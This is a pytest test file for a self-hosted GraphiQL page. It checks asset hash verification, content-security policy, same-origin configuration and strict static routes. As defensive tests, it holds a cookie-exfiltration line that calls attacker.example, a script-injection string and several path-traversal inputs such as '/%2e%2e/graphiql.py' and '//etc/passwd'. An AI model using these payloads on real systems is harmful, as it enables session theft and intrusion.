"""The self-hosted GraphiQL: verified files, a page with no external URL, and strict routes.

No browser here (see test_graphiql_browser.py): these check what the server sends.
"""

from __future__ import annotations

import datetime as dt
import json
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pytest
import strawberry
from api_client import Api
from sqlalchemy.engine import URL
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route
from strawberry.asgi import GraphQL

from graph.graphiql import (
    ASSETS,
    ASSETS_DIR,
    ASSETS_PATH,
    EXAMPLE_QUERY,
    GraphiQLAssetError,
    graphiql_asset_routes,
    graphiql_csp,
    graphiql_page,
    load_assets,
    render_graphiql,
)

PAGE_FILES = {
    "react.production.min.js",
    "react-dom.production.min.js",
    "graphiql.min.js",
    "graphiql.min.css",
    "bootstrap.js",
    "page.css",
}
URL_PATTERN = re.compile(r"https?://|wss?://|ftp://", re.IGNORECASE)


@pytest.fixture
def assets_copy(tmp_path: Path) -> Path:
    """A private copy of the assets directory that a test may damage."""
    target = tmp_path / "graphiql"
    shutil.copytree(ASSETS_DIR, target)
    return target


@pytest.fixture
async def client(api: Api) -> httpx.AsyncClient:
    """A client of the asset routes alone."""
    return (await api(app=Starlette(routes=graphiql_asset_routes()))).http


# --- manifest verification ---------------------------------------------------------------


def test_the_vendored_files_match_the_manifest() -> None:
    assets = load_assets(ASSETS_DIR)
    assert set(assets) >= PAGE_FILES
    assert set(assets) == set(ASSETS)


def test_the_manifest_records_where_each_file_came_from() -> None:
    manifest = json.loads((ASSETS_DIR / "manifest.json").read_text(encoding="utf-8"))
    entries = {entry["file"]: entry for entry in manifest["files"]}
    for name in ("react.production.min.js", "react-dom.production.min.js", "graphiql.min.js"):
        entry = entries[name]
        assert entry["origin"] == "npm"
        assert entry["package"] and re.fullmatch(r"\d+\.\d+\.\d+", entry["version"])
        assert entry["integrity"].startswith("sha512-")
        assert re.fullmatch(r"[0-9a-f]{64}", entry["sha256"])
    for name in ("bootstrap.js", "page.css"):
        assert entries[name]["origin"] == "own"
        assert "package" not in entries[name]


def test_a_modified_file_is_refused(assets_copy: Path) -> None:
    target = assets_copy / "graphiql.min.js"
    target.write_bytes(target.read_bytes().replace(b"GraphiQL", b"GraphiQX", 1))
    with pytest.raises(GraphiQLAssetError, match=r"graphiql\.min\.js: sha256 .* manifest says"):
        load_assets(assets_copy)


def test_an_appended_script_is_refused(assets_copy: Path) -> None:
    with (assets_copy / "bootstrap.js").open("a", encoding="utf-8") as handle:
        handle.write("\nfetch('https://attacker.example/?' + document.cookie);\n")
    with pytest.raises(GraphiQLAssetError, match=r"bootstrap\.js"):
        load_assets(assets_copy)


def test_a_missing_file_is_refused(assets_copy: Path) -> None:
    (assets_copy / "react.production.min.js").unlink()
    with pytest.raises(GraphiQLAssetError, match=r"react\.production\.min\.js: cannot be read"):
        load_assets(assets_copy)


def test_a_missing_or_broken_manifest_is_refused(assets_copy: Path) -> None:
    manifest = assets_copy / "manifest.json"
    manifest.write_text("{not json", encoding="utf-8")
    with pytest.raises(GraphiQLAssetError, match=r"manifest .* is unreadable"):
        load_assets(assets_copy)
    manifest.unlink()
    with pytest.raises(GraphiQLAssetError, match="refresh_graphiql"):
        load_assets(assets_copy)


def test_a_manifest_without_a_page_file_is_refused(assets_copy: Path) -> None:
    manifest_path = assets_copy / "manifest.json"
    manifest = json.loads(manifest_path.read_text(encoding="utf-8"))
    manifest["files"] = [e for e in manifest["files"] if e["file"] != "bootstrap.js"]
    manifest_path.write_text(json.dumps(manifest), encoding="utf-8")
    with pytest.raises(GraphiQLAssetError, match=r"does not list bootstrap\.js"):
        load_assets(assets_copy)


@pytest.mark.parametrize(
    "name", ["../app.py", "/etc/passwd.js", "sub/dir.js", ".hidden.js", "x.py"]
)
def test_a_manifest_cannot_point_outside_its_directory(assets_copy: Path, name: str) -> None:
    manifest_path = assets_copy / "manifest.json"
    manifest = json.loads(manifest_path.read_text(encoding="utf-8"))
    manifest["files"].append({"file": name, "origin": "own", "sha256": "0" * 64})
    manifest_path.write_text(json.dumps(manifest), encoding="utf-8")
    with pytest.raises(GraphiQLAssetError, match="not a plain"):
        load_assets(assets_copy)


# --- the page ----------------------------------------------------------------------------


class _Links(HTMLParser):
    """Every URL-bearing attribute of a page, and the integrity of scripts and stylesheets."""

    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []
        self.subresources: list[tuple[str, str | None]] = []
        self.inline_scripts: list[str] = []
        self._script_type: str | None = None
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        for attribute in ("src", "href", "action", "srcset", "poster", "data"):
            if values.get(attribute):
                self.urls.append(str(values[attribute]))
        if (tag == "script" and values.get("src")) or (
            tag == "link" and values.get("rel") == "stylesheet"
        ):
            self.subresources.append(
                (str(values.get("src") or values["href"]), values["integrity"])
            )
        if tag == "script" and not values.get("src"):
            self._in_script, self._script_type = True, values.get("type")
        assert "style" not in values, f"inline style attribute on <{tag}>"
        assert not any(name.startswith("on") for name in values), f"event handler on <{tag}>"

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and self._script_type != "application/json" and data.strip():
            self.inline_scripts.append(data)


def test_the_page_has_no_external_url() -> None:
    page = graphiql_page("/graphql", style_nonce="abc")
    assert URL_PATTERN.search(page) is None
    links = _Links()
    links.feed(page)
    assert links.urls, "the page should reference its assets"
    for url in links.urls:
        assert url.startswith(f"{ASSETS_PATH}/") or url == "data:,", url
    assert "<style" not in page
    assert links.inline_scripts == []  # only the JSON data block, which never executes


def test_the_page_loads_every_page_file_with_its_integrity() -> None:
    links = _Links()
    links.feed(graphiql_page())
    loaded = {
        url.split("?")[0].removeprefix(f"{ASSETS_PATH}/"): sri for url, sri in links.subresources
    }
    assert set(loaded) == PAGE_FILES
    for name, sri in loaded.items():
        assert sri == ASSETS[name].sri


def test_the_page_is_configured_for_the_api() -> None:
    page = graphiql_page("/api/graphql")
    config_text = page.split('id="graphiql-config">', 1)[1].split("</script>", 1)[0]
    config = json.loads(config_text)
    assert config["graphqlPath"] == "/api/graphql"
    assert config["exampleQuery"] == EXAMPLE_QUERY
    assert json.loads(config["defaultHeaders"])["Authorization"].startswith("Bearer <paste")
    assert "perfex-graph token" in config["defaultHeaders"]
    # the visible hint says how to authenticate
    assert 'id="perfex-hint"' in page and "Authorization" in page and "perfex-graph token" in page
    bootstrap = ASSETS["bootstrap.js"].content.decode()
    assert "shouldPersistHeaders: true" in bootstrap


def test_the_example_query_is_valid_for_the_schema() -> None:
    """The page opens with EXAMPLE_QUERY: it must keep up with the schema's field names."""
    from graphql import parse, validate

    from graph.schema import schema

    assert validate(schema._schema, parse(EXAMPLE_QUERY)) == []


def test_a_value_cannot_close_the_config_block(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("graph.graphiql.EXAMPLE_QUERY", "# </script><script>alert(1)</script>")
    page = graphiql_page()
    assert "</script><script>alert" not in page
    assert page.count("</script>") == 1 + 4  # the config block and the four scripts


@pytest.mark.parametrize(
    "path", ["https://elsewhere.example/graphql", "//elsewhere.example/graphql", "graphql", ""]
)
def test_the_api_must_be_on_the_same_origin(path: str) -> None:
    with pytest.raises(ValueError, match="path on this origin"):
        graphiql_page(path)


def test_the_csp_allows_only_this_origin() -> None:
    csp = graphiql_csp()
    directives = dict(part.strip().split(" ", 1) for part in csp.split(";"))
    assert directives["default-src"] == "'none'"
    assert directives["script-src"] == "'self'"
    assert directives["style-src"] == "'self'"
    assert directives["connect-src"] == "'self'"
    assert directives["frame-ancestors"] == "'none'"
    assert "unsafe" not in csp and URL_PATTERN.search(csp) is None
    assert "'nonce-n0nce'" in graphiql_csp(style_nonce="n0nce").split("style-src", 1)[1]


async def test_render_graphiql_sends_the_page_with_a_fresh_nonce(api: Api) -> None:
    client = await api(app=Starlette(routes=[Route("/graphql", render_graphiql)]))
    first, second = await client.http.get("/graphql"), await client.http.get("/graphql")
    assert first.status_code == 200
    assert first.headers["content-type"].startswith("text/html")
    nonces = []
    for response in (first, second):
        csp = response.headers["content-security-policy"]
        nonce = re.search(r"'nonce-([^']+)'", csp)
        assert nonce is not None
        assert f'"styleNonce": "{nonce.group(1)}"' in response.text
        nonces.append(nonce.group(1))
    assert nonces[0] != nonces[1]
    assert first.headers["referrer-policy"] == "no-referrer"


async def test_strawberry_view_serves_the_page_to_browsers_only(api: Api) -> None:
    """The wiring the app uses: override render_graphql_ide with render_graphiql."""

    @strawberry.type
    class Query:
        @strawberry.field
        def ping(self) -> str:
            return "pong"

    class View(GraphQL[None, None]):
        async def render_graphql_ide(self, request: Request) -> Response:
            return await render_graphiql(request)

    app = Starlette(
        routes=[*graphiql_asset_routes(), Route("/graphql", View(strawberry.Schema(Query)))]
    )
    client = await api(app=app)
    page = await client.http.get("/graphql", headers={"Accept": "text/html"})
    query = await client.query("{ ping }")
    assert 'id="graphiql-config"' in page.text
    assert "content-security-policy" in page.headers
    assert query == {"data": {"ping": "pong"}}


# --- the asset routes --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content_type"),
    [
        ("graphiql.min.js", "text/javascript; charset=utf-8"),
        ("react.production.min.js", "text/javascript; charset=utf-8"),
        ("react-dom.production.min.js", "text/javascript; charset=utf-8"),
        ("bootstrap.js", "text/javascript; charset=utf-8"),
        ("graphiql.min.css", "text/css; charset=utf-8"),
        ("page.css", "text/css; charset=utf-8"),
        ("LICENSE.graphiql.txt", "text/plain; charset=utf-8"),
    ],
)
async def test_each_file_is_served_with_its_type_and_cache_headers(
    client: httpx.AsyncClient, name: str, content_type: str
) -> None:
    response = await client.get(ASSETS[name].url)
    assert response.status_code == 200
    assert response.content == (ASSETS_DIR / name).read_bytes()
    assert response.headers["content-type"] == content_type
    assert response.headers["cache-control"] == "public, max-age=31536000, immutable"
    assert response.headers["etag"] == f'"{ASSETS[name].sha256}"'
    assert response.headers["x-content-type-options"] == "nosniff"


async def test_a_matching_etag_gets_not_modified(client: httpx.AsyncClient) -> None:
    etag = ASSETS["graphiql.min.js"].etag
    response = await client.get(
        f"{ASSETS_PATH}/graphiql.min.js", headers={"If-None-Match": f'"other", W/{etag}'}
    )
    assert response.status_code == 304
    assert response.content == b""
    assert response.headers["etag"] == etag
    stale = await client.get(f"{ASSETS_PATH}/graphiql.min.js", headers={"If-None-Match": '"other"'})
    assert stale.status_code == 200


async def test_head_sends_headers_only(client: httpx.AsyncClient) -> None:
    response = await client.head(f"{ASSETS_PATH}/bootstrap.js")
    assert response.status_code == 200
    assert response.content == b""
    assert response.headers["etag"] == ASSETS["bootstrap.js"].etag


@pytest.mark.parametrize(
    "path",
    [
        "/nothing.js",
        "/manifest.json",
        "/",
        "/graphiql.min.js.map",
        "/GRAPHIQL.MIN.JS",
        "/%2e%2e/graphiql.py",
        "/..%2fgraphiql.py",
        "/%2e%2e%2f%2e%2e%2fapp.py",
        "/..%5cgraphiql.py",
        "//etc/passwd",
        "/%2fetc%2fpasswd",
        "/static/graphiql/bootstrap.js",
    ],
)
async def test_anything_else_is_not_found(client: httpx.AsyncClient, path: str) -> None:
    response = await client.get(ASSETS_PATH + path)
    assert response.status_code == 404
    assert "immutable" not in response.headers.get("cache-control", "")


async def test_only_get_and_head_are_allowed(client: httpx.AsyncClient) -> None:
    assert (await client.post(f"{ASSETS_PATH}/bootstrap.js")).status_code == 405


def test_routes_can_serve_another_verified_directory(assets_copy: Path) -> None:
    (assets_copy / "page.css").write_text("body { color: red }", encoding="utf-8")
    with pytest.raises(GraphiQLAssetError):
        graphiql_asset_routes(load_assets(assets_copy))


# --- the demo's token, and the ready operations -------------------------------------------------


def _page_config(html: str) -> dict[str, Any]:
    text = html.split('id="graphiql-config">', 1)[1].split("</script>", 1)[0]
    return json.loads(text)  # type: ignore[no-any-return]


async def test_only_the_demo_prefills_its_token(
    api: Api, migrated_url: URL, monkeypatch: pytest.MonkeyPatch
) -> None:
    from graph.app import create_app
    from settings import DEMO_TOKEN_VARIABLE

    monkeypatch.delenv(DEMO_TOKEN_VARIABLE, raising=False)
    plain = await api(app=create_app(database_url=migrated_url, auth=api.auth))
    page = await plain.http.get("/graphql", headers={"Accept": "text/html"})
    headers = json.loads(_page_config(page.text)["defaultHeaders"])
    assert headers["Authorization"].startswith("Bearer <paste")
    monkeypatch.setenv(DEMO_TOKEN_VARIABLE, "demo.token.value")  # what `serve --demo` sets
    demo = await api(app=create_app(database_url=migrated_url, auth=api.auth))
    page = await demo.http.get("/graphql", headers={"Accept": "text/html"})
    assert json.loads(_page_config(page.text)["defaultHeaders"]) == {
        "Authorization": "Bearer demo.token.value"
    }


def test_the_tabs_are_the_ready_operations_with_working_variables() -> None:
    from graphql import parse, validate

    from graph.graphiql import OPERATION_ORDER, operation_tabs
    from graph.schema import schema

    now = dt.datetime(2026, 11, 28, 9, 0, tzinfo=dt.UTC)
    tabs = operation_tabs(now)
    assert len(tabs) == len(OPERATION_ORDER) == 5
    names = [parse(tab["query"]).definitions[0].name.value for tab in tabs]  # type: ignore[attr-defined]
    assert names == ["Roster", "PatientChart", "RpmAlerts", "QualityDashboard", "PatientSearch"]
    for tab in tabs:
        assert validate(schema._schema, parse(tab["query"])) == []
        json.loads(tab["variables"])
    assert json.loads(tabs[2]["variables"]) == {"since": "2026-11-27T09:00:00+00:00"}
